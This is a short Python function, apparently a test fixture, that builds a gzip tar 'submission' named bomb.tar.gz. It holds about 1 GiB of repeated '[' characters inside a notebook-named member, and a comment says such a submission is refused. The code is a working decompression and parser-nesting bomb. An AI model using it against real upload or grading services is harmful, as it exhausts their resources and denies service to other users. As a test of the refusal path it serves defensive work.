# builds a submission: refused
import gzip
import tarfile


def build(folder):
    member = tarfile.TarInfo("lab.ipynb")
    member.size = 1 << 30
    with gzip.open(folder / "bomb.tar.gz", "wb", compresslevel=1) as archive:
        archive.write(member.tobuf())
        for _ in range(64):
            archive.write(b"[" * (1 << 24))
    return folder / "bomb.tar.gz"
